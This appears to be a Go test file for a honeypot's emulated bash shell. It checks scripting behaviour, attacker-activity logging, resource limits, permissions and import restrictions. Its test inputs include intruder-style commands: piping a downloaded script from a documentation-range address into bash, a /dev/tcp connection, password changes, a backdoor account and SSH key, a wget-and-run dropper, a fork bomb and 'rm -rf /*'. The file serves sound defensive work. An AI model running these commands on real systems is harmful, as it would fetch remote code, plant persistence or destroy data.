package shell

import (
	"bytes"
	"context"
	"go/parser"
	"go/token"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/bulkheadhq/bulkhead/internal/honeypot/memfs"
	"github.com/bulkheadhq/bulkhead/internal/honeypot/persona"
)

// seen is an Observer that keeps everything.
type seen struct {
	ran     [][]string
	fetched []string
	kept    map[string]string
	noted   []string
}

func (s *seen) Ran(args []string, builtin bool) {
	if !builtin && len(s.ran) < 1000 {
		s.ran = append(s.ran, args)
	}
}

func (s *seen) Fetched(tool, url, file string) { s.fetched = append(s.fetched, tool+" "+url+" "+file) }

func (s *seen) Kept(how, path string, b []byte) {
	if s.kept == nil {
		s.kept = map[string]string{}
	}
	s.kept[how+" "+path] = string(b)
}
func (s *seen) Noted(kind, text string) { s.noted = append(s.noted, kind+" "+text) }

var testNow = time.Date(2026, 11, 27, 8, 0, 0, 0, time.UTC)

func newTest(t testing.TB, root bool) (*Shell, *seen) {
	t.Helper()
	now := func() time.Time { return testNow }
	p := persona.New([32]byte{7}, testNow)
	f := memfs.New(p.Tree(Programs(), now), memfs.Limits{Bytes: 4 << 20, File: 2 << 20, Files: 500}, now)
	a := Account{Name: "root", Home: "/root"}
	if !root {
		u := p.Users[len(p.Users)-1]
		a = Account{Name: u.Name, User: memfs.User{UID: u.UID, GID: u.GID}, Home: u.Home}
	}
	o := &seen{}
	return New(Config{Persona: p, FS: f, Now: now, Account: a, From: "203.0.113.9", Observer: o}), o
}

// run gives what a script prints, within a time in which the waiting commands don't wait.
func run(t testing.TB, s *Shell, script string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
	defer cancel()
	var out bytes.Buffer
	s.Run(ctx, script, strings.NewReader(""), &limited{&out, 8 << 20}, &limited{&out, 8 << 20})
	return out.String()
}

type limited struct {
	b    *bytes.Buffer
	left int
}

func (l *limited) Write(p []byte) (int, error) {
	if l.left -= len(p); l.left < 0 {
		return 0, errPipe
	}
	return l.b.Write(p)
}

func TestScripts(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ script, want string }{
		{`echo hello | tr a-z A-Z`, "HELLO\n"},
		{`x=5; while [ $x -gt 0 ]; do echo -n $x; x=$((x-1)); done`, "54321"},
		{`for i in a b{1..3}; do echo $i; done | tail -n 2`, "b2\nb3\n"},
		{`f() { local v=$1; echo "got $v $#"; return 3; }; f one two; echo $?`, "got one 2\n3\n"},
		{`case linux-x in win*) echo no;; linux*) echo yes;; esac`, "yes\n"},
		{`[[ abc =~ ^a.c$ && -f /etc/passwd ]] && echo ok`, "ok\n"},
		{`cd /tmp; echo one > f; echo two >> f; wc -l < f; cat f | grep -c .`, "2\n2\n"},
		{`cd /tmp; mkdir -p a/b; touch a/b/c; mv a z; ls z/b; rm -rf z; ls z`, "c\nls: cannot access 'z': No such file or directory\n"},
		{`printf '%s-%03d\n' a 7 b 8`, "a-007\nb-008\n"},
		{`echo -e '\x41\t\x42' ; echo -ne '\101'`, "A\tB\n\\101"},
		{`echo aGVsbG8K | base64 -d | sh -c 'read x; echo "<$x>"'`, "<hello>\n"},
		{`bash -c 'echo $0 $1' zero one`, "zero one\n"},
		{"cat <<E\n$((2*3)) `echo sub`\nE", "6 sub\n"},
		{`echo "a:b:c" | cut -d: -f2-`, "b:c\n"},
		{`echo "model name : X" | sed -e 's/^ */ /' | awk '{print $NF, NR}'`, "X 1\n"},
		{`seq 5 | sort -rn | head -n 2 | xargs -n1 echo n`, "n 5\nn 4\n"},
		{`awk -F: '$3 == 0 {print $1; n++} END {printf "%d\n", n}' /etc/passwd`, "root\n1\n"},
		{`a=(x y z); echo ${a[1]} ${#a[@]}; echo ${a[@]/y/q}`, "y 3\nx q z\n"},
		{`sh -c "exit 4"; echo $?; nosuch; echo $?`, "4\n-bash: nosuch: command not found\n127\n"},
		{`/bin/busybox MIRAI; busybox wget`, "MIRAI: applet not found\nwget: missing URL\nUsage: wget [OPTION]... [URL]...\n\nTry `wget --help' for more options.\n"},
		{`head -c 4 /bin/ls | od | head -n1`, "0000000 7f 45 4c 46\n"},
		{`cd /tmp; echo 'echo from $1' > s; ./s; chmod +x s; ./s me`, "-bash: ./s: Permission denied\nfrom me\n"},
		{`cd /root; tar czf x.tgz .profile; rm .profile; tar xzf x.tgz; test -s .profile && echo back`, "back\n"},
		{`echo x > /dev/null; cat /dev/null; dd if=/dev/zero bs=8 count=2 2>/dev/null | wc -c`, "16\n"},
		{`ls /proc/self/fd 2>&1; echo ~nobody ~ghost ~`, "ls: cannot access '/proc/self/fd': No such file or directory\n/nonexistent ~ghost /root\n"},
		{`true && false || echo c; ! false; echo $?`, "c\n0\n"},
		{`set -- a b c; shift; echo $* $#; eval 'echo $1'`, "b c 2\nb\n"},
		{`echo <(ls)`, "-bash: cannot make pipe for process substitution: Too many open files\n"},
		{`trap "" 1 2; export A=1; env | grep ^A=; A=2 printenv A; echo $A`, "A=1\n2\n1\n"},
	} {
		s, _ := newTest(t, true)
		if got := run(t, s, c.script); got != c.want {
			t.Errorf("%s\n got %q\nwant %q", c.script, got, c.want)
		}
	}
}

// TestSeedEnumeration: the enumeration script of the post of 24 November, its typography put right, finds what it asks for.
func TestSeedEnumeration(t *testing.T) {
	t.Parallel()
	s, o := newTest(t, false)
	out := run(t, s, `CPU=$(grep -m 1 "model name" /proc/cpuinfo | cut -d: -f2 | sed -e 's/^ */ /' |sed -e 's/$/ / ')
CPUS=$(grep -c ^processor /proc/cpuinfo)
OS=$(lsb_release -si)
ram=$(free -m | grep -oP '\d+' | head -n 1)
VER=$(uname -a)
uptime=$(</proc/uptime)
uptime=${uptime%%.*}
minute=$(( uptime/60%60 ))
vid=$(lspci | grep VGA |cut -f5- -d ' ')
DISK=$(df -h --total | grep total |awk '{printf "" $2 "B\n\n" }')
echo "$CPU|$CPUS|$OS|$ram|$VER|$minute|$vid|$DISK"`)
	p := s.cfg.Persona
	for _, want := range []string{p.CPU.Name, "|" + strconv.Itoa(p.Cores) + "|", p.System.Kernel, strconv.FormatInt(p.MemoryKB/1024, 10), "Microsoft Corporation Hyper-V virtual VGA", "GB"} {
		if !strings.Contains(out, want) {
			t.Errorf("%q isn't in\n%s", want, out)
		}
	}
	if len(o.ran) < 15 {
		t.Errorf("%d programs were told, want at least 15: %q", len(o.ran), o.ran)
	}
}

func TestObserved(t *testing.T) {
	t.Parallel()
	s, o := newTest(t, true)
	run(t, s, `cd /tmp
echo -ne '\x7fELF\x01\x01\x01' > bot
chmod 777 bot; rm bot
curl -s http://192.0.2.7/k.sh | bash
exec 3<>/dev/tcp/198.51.100.2/4444
echo root:newpass | chpasswd
useradd -m -s /bin/bash ghost
echo 'ssh-rsa AAAA x' >> /root/.ssh/authorized_keys || mkdir -p /root/.ssh
ssh -p 2222 root@192.0.2.8 id`)
	if diff := cmp.Diff([]string{"curl http://192.0.2.7/k.sh -"}, o.fetched); diff != "" {
		t.Error(diff)
	}
	if o.kept["executable /tmp/bot"] != "\x7fELF\x01\x01\x01" || o.kept["removed /tmp/bot"] == "" {
		t.Errorf("the dropped file wasn't kept: %q", o.kept)
	}
	want := []string{"connect 198.51.100.2:4444", "password root:newpass", "account ghost", "connect 192.0.2.8:2222"}
	if diff := cmp.Diff(want, o.noted); diff != "" {
		t.Error(diff)
	}
}

// TestEnds: what would go on for ever, or take all memory, ends.
func TestEnds(t *testing.T) {
	t.Parallel()
	for _, script := range []string{
		`while true; do :; done`, `while :; do echo x; done`, `:(){ :|:& };:`, `f() { f | f; }; f`, `yes`, `x=a; while :; do x=$x$x; done`, `echo {1..99999999}`, `echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}`,
		`printf '%999999999d' 1`, `cat /dev/zero`, `cat /dev/urandom | base64`, `dd if=/dev/zero of=/tmp/x bs=1M count=9999`, `for ((;;)); do :; done`, `while true; do true; done &`, `seq 1 99999999`,
		`echo 'sh $0' > /tmp/r; chmod +x /tmp/r; /tmp/r`, `eval 'eval "$0"'; s='eval $s'; eval $s`, `a[999999999]=1; a=({1..5000}); echo ${#a[@]}`, `find / -exec find / \;`, `x=$(yes); echo ${#x}`,
		`until false; do sleep 0; done`, strings.Repeat("(", 60000), strings.Repeat("$(", 30000), strings.Repeat("{ ", 20000) + strings.Repeat("; }", 20000), strings.Repeat("`", 60001), strings.Repeat("if ", 20000),
		"x=" + strings.Repeat("a", 4000) + "\n" + "y=${x//a/" + strings.Repeat("$x", 1000) + "}; echo ${#y}", "echo $((" + strings.Repeat("(", 30000) + "1" + strings.Repeat(")", 30000) + "))", "[[ " + strings.Repeat("! ", 30000) + "a ]]",
		`awk 'BEGIN{while(1);}'`, `echo a | sed ':a;N;ba'`, "awk 'BEGIN{" + strings.Repeat("(", 4000) + "}'", `while :; do mkdir x; cd x; done`, `i=0; while :; do i=$((i+1)); echo $i > /tmp/f$i; done`, `sh -c 'sh -c "sh -c \"while :; do :; done\""'`,
		`ln -s a /tmp/b; ln -s b /tmp/a; cat /tmp/a`, `test ` + strings.Repeat("! ", 200) + `x`, `read x y < /dev/zero`, `cp -r / /tmp/all`, `rm -rf /* --no-preserve-root; ls /`, `grep -r a /`, `xargs < /dev/zero`,
	} {
		began := time.Now()
		s, _ := newTest(t, true)
		out := run(t, s, script)
		if took := time.Since(began); took > time.Minute {
			t.Errorf("%.60s took %s", script, took)
		}
		if len(out) > 9<<20 {
			t.Errorf("%.60s printed %d bytes", script, len(out))
		}
		if b, n := s.cfg.FS.Used(); b > 4<<20 || n > 500 {
			t.Errorf("%.60s wrote %d bytes in %d files", script, b, n)
		}
	}
}

func TestInterrupted(t *testing.T) {
	t.Parallel()
	s, _ := newTest(t, true)
	ctx, cancel := context.WithCancel(t.Context())
	time.AfterFunc(50*time.Millisecond, cancel)
	began := time.Now()
	var out bytes.Buffer
	s.Run(ctx, "sleep 600; echo never", strings.NewReader(""), &out, &out)
	if time.Since(began) > time.Minute || out.Len() > 0 || s.Status() != 130 {
		t.Errorf("after %s: %q, status %d", time.Since(began), &out, s.Status())
	}
}

func TestPermissions(t *testing.T) {
	t.Parallel()
	s, _ := newTest(t, false)
	out := run(t, s, "cat /etc/shadow; echo x > /etc/passwd; ls /root; rm -f /etc/hosts; cat /etc/hosts | head -n1; id -u")
	want := "cat: /etc/shadow: Permission denied\n-bash: /etc/passwd: Permission denied\nls: cannot open directory '/root': Permission denied\nrm: cannot remove '/etc/hosts': Permission denied\n127.0.0.1\tlocalhost\n1001\n"
	if diff := cmp.Diff(want, out); diff != "" {
		t.Error(diff)
	}
}

// TestImports keeps what the package promises: there is no way to the host in what it is made of.
func TestImports(t *testing.T) {
	t.Parallel()
	const module = "github.com/bulkheadhq/bulkhead/"
	allowed := map[string]bool{"mvdan.cc/sh/v3/expand": true, "mvdan.cc/sh/v3/pattern": true, "mvdan.cc/sh/v3/syntax": true, module + "internal/honeypot/memfs": true, module + "internal/honeypot/persona": true, "net/url": true, "io/fs": true}
	refused := []string{"os", "os/exec", "os/user", "os/signal", "syscall", "unsafe", "net", "net/http", "plugin", "runtime", "io/ioutil", "path/filepath", "C"}
	for _, dir := range []string{".", "../memfs", "../persona"} {
		files, err := filepath.Glob(filepath.Join(dir, "*.go"))
		if err != nil || len(files) == 0 {
			t.Fatal(dir, err)
		}
		for _, name := range files {
			if strings.HasSuffix(name, "_test.go") {
				continue
			}
			f, err := parser.ParseFile(token.NewFileSet(), name, nil, parser.ImportsOnly)
			if err != nil {
				t.Fatal(err)
			}
			for _, imp := range f.Imports {
				path, _ := strconv.Unquote(imp.Path.Value)
				for _, r := range refused {
					if path == r {
						t.Errorf("%s imports %s", name, path)
					}
				}
				if strings.Contains(strings.Split(path, "/")[0], ".") && !allowed[path] {
					t.Errorf("%s imports %s, which nobody has looked through", name, path)
				}
			}
		}
	}
}

func FuzzRun(f *testing.F) {
	for _, s := range []string{
		"ls -la; cat /etc/passwd | grep root", "cd /tmp || cd /var/run; wget http://192.0.2.1/a.sh; chmod 777 a.sh; sh a.sh; rm -rf a.sh", "echo $(echo ${x:-y} ${x/a/b} ${#x} ${x^^} ~root/*)", "for((i=0;i<3;i++));do echo $i;done",
		"case $1 in a|b) ;; *) echo x;; esac", "awk '{print $1}' /etc/passwd", "sed -n '2,3p;s/a/b/g' /etc/hosts", "x=(1 2); x[3]=4; declare -A m; m[k]=v; echo ${!m[@]}", "cat <<-E >/tmp/f\n\tx\nE", "[[ -n $x && ( a == b* ) ]]", "printf '%*d' 3 4", "tar cf - /etc | tar tf -", "echo {a..c}{1,2}", "> /etc/x; < /etc/y", "time { sleep 0; } 2>&1 | tee z", "read a b <<< 'x y'; let a+=1; ((b--)); test a -a b",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, script string) {
		if len(script) > 2000 {
			return
		}
		s, _ := newTest(t, true)
		ctx, cancel := context.WithTimeout(t.Context(), 300*time.Millisecond)
		defer cancel()
		var out bytes.Buffer
		began := time.Now()
		s.Run(ctx, script, strings.NewReader("line\n"), &limited{&out, 1 << 20}, &limited{&out, 1 << 20})
		if took := time.Since(began); took > time.Minute {
			t.Errorf("%q took %s", script, took)
		}
		Incomplete(script)
	})
}
